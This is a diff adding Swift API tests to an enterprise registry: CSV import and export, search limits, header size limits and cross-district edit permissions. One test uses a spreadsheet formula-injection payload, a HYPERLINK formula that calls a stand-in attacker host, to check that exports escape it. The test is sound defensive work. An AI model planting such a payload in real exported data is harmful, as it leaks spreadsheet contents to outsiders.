@@ -118,11 +118,107 @@ struct EnterprisesAPITests {
             #expect(dry.text.contains(#""line":3"#) && dry.text.contains("火星区"))
             #expect(refused.status == .unprocessableEntity)
             #expect(refused.text.contains("有 1 行有误，未导入任何数据"))
+            #expect(refused.problem?.errors?.first?.field == "line 3: creditCode")
+            #expect(refused.problem?.errors?.first?.detail.hasPrefix("第 3 行：统一社会信用代码：") == true)
             #expect(skipping.status == .created)
             #expect(empty.status == .unprocessableEntity && empty.text.contains("文件为空"))
             #expect(export.headers.contentType?.subType == "csv")
             #expect(export.text.contains("好公司,91310000MA1FL1MMXL"))
             #expect(notAllowed.status == .forbidden)
+        }
+    }
+
+    @Test("an exported name a spreadsheet would run as a formula is written as text, and imports back unchanged")
+    func formulaInjection() async throws {
+        try await withTestApp { app in
+            let name = #"=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"#
+            let created = try await app.send(
+                .POST, "/api/v1/enterprises", headers: app.account("city.admin").bearer, json: Self.body(name, code: "91310115MA1H7GKX3T")
+            )
+            #expect(created.status == .created)
+
+            let export = try await app.send(.GET, "/api/v1/enterprises/export", headers: app.account("auditor").bearer)
+            let rows = try CSVFile.table(Data(export.body.readableBytesView))
+            let raw = export.text.split(separator: "\r\n").map(String.init)
+
+            #expect(raw.contains { $0.hasPrefix(#""'=HYPERLINK(""http://evil.example"#) })
+            #expect(!raw.contains { $0.hasPrefix("=") || $0.hasPrefix(#""=""#) })
+            #expect(rows.dropFirst().first?.first == #"=HYPERLINK("http://evil.example/?"&A1,"点击查看")"#)
+        }
+    }
+
+    @Test("search terms and paging are checked: too long, ill-formed or out of range get a 4xx naming the parameter")
+    func searchLimits() async throws {
+        try await withTestApp { app in
+            let auditor = app.account("auditor").bearer
+            let huge = try await app.send(.GET, "/api/v1/enterprises?q=" + String(repeating: "a", count: 50_000), headers: auditor)
+            let long = try await app.send(.GET, "/api/v1/enterprises?q=" + String(repeating: "a", count: 101), headers: auditor)
+            let word = try await app.send(.GET, "/api/v1/enterprises?limit=ten", headers: auditor)
+            let zero = try await app.send(.GET, "/api/v1/enterprises?limit=0&offset=-1", headers: auditor)
+            let fine = try await app.send(.GET, "/api/v1/enterprises?q=" + String(repeating: "a", count: 100) + "&limit=500&offset=0", headers: auditor)
+
+            #expect(huge.status == .uriTooLong)
+            #expect(huge.problem?.detail.contains("8192") == true)
+            #expect(long.status == .unprocessableEntity)
+            #expect(long.problem?.errors == [.init(field: "q", detail: "检索词：最多 100 个字符")])
+            #expect(word.problem?.errors == [.init(field: "limit", detail: "每页条数：应为整数")])
+            #expect(zero.problem?.errors?.map(\.field) == ["limit", "offset"])
+            #expect(zero.text.contains("应在 1 到 500 之间"))
+            #expect(fine.status == .ok)
+        }
+    }
+
+    @Test("headers beyond the limit get 431 in the caller's language")
+    func headersTooLarge() async throws {
+        try await withTestApp { app in
+            let res = try await app.send(.GET, "/api/v1/enterprises", headers: ["X-Padding": String(repeating: "x", count: 40_000)])
+            #expect(res.status == .requestHeaderFieldsTooLarge)
+            #expect(res.problem?.title == "请求头过大")
+        }
+    }
+
+    @Test("a production district cannot rewrite another district's registration; each side is told of the other's changes")
+    func crossDistrictEdits() async throws {
+        try await withTestApp { app in
+            // Registered in 徐汇, producing in 浦东.
+            let created = try await app.send(
+                .POST, "/api/v1/enterprises", headers: app.account("city.admin").bearer,
+                json: Self.body("上海精工电缆有限公司", code: "91310115MA1H7GKX3T", registered: "310104", production: "310115")
+            )
+            let id = try created.content.decode(EnterprisesAPIController.EnterpriseDTO.self).id
+            func edit(_ account: String, _ body: String) async throws -> TestingHTTPResponse {
+                try await app.send(.PUT, "/api/v1/enterprises/\(id)", headers: app.account(account).bearer, json: body)
+            }
+            let original = Self.body("上海精工电缆有限公司", code: "91310115MA1H7GKX3T", registered: "310104", production: "310115")
+            let before = try await app.store.ledger.size()
+
+            let legalRepresentative = try await edit("pudong.officer", original.replacingOccurrences(of: "张三", with: "李四"))
+            let moved = try await edit("pudong.officer", Self.body("上海精工电缆有限公司", code: "91310115MA1H7GKX3T", registered: "310115", production: "310115"))
+            #expect(legalRepresentative.status == .forbidden)
+            #expect(legalRepresentative.problem?.detail.contains("由注册地辖区（徐汇区）或市局修改") == true)
+            #expect(moved.status == .forbidden)
+            #expect(try await app.store.ledger.size() == before)
+
+            let ownSite = try await edit("pudong.officer", original.replacingOccurrences(of: "上海市某区某路2号", with: "上海市浦东新区张江路9号"))
+            #expect(ownSite.status == .ok)
+            let othersSite = try await edit("xuhui.officer", original.replacingOccurrences(of: "上海市某区某路2号", with: "上海市浦东新区张江路10号"))
+            #expect(othersSite.status == .forbidden)
+            let registration = try await edit("xuhui.officer", original.replacingOccurrences(of: "上海市某区某路2号", with: "上海市浦东新区张江路9号")
+                .replacingOccurrences(of: "张三", with: "李四"))
+            #expect(registration.status == .ok)
+
+            let xuhuiHome = try await app.send(.GET, "/home", headers: app.account("xuhui.officer").cookie)
+            let pudongHome = try await app.send(.GET, "/home", headers: app.account("pudong.officer").cookie)
+            #expect(xuhuiHome.text.contains("用户 pudong.officer（浦东新区）修改了浦东新区的生产地址"))
+            #expect(!xuhuiHome.text.contains("用户 xuhui.officer（徐汇区）修改"))
+            #expect(pudongHome.text.contains("用户 xuhui.officer（徐汇区）修改了登记信息"))
+
+            // The page shows 浦东 the registration it may not change as read-only, districts by name.
+            let form = try await app.send(.GET, "/enterprises/\(id)/edit", headers: app.account("pudong.officer").cookie)
+            #expect(form.text.contains(#"name="legalRepresentative" value="李四" required readonly"#))
+            #expect(form.text.contains(#"<select id="registeredDistrict" disabled>"#))
+            #expect(form.text.contains(#"<option value="310104" selected>徐汇区</option>"#))
+            #expect(form.text.contains(#"<select id="productionDistrict" name="productionDistrict">"#))
         }
     }
 
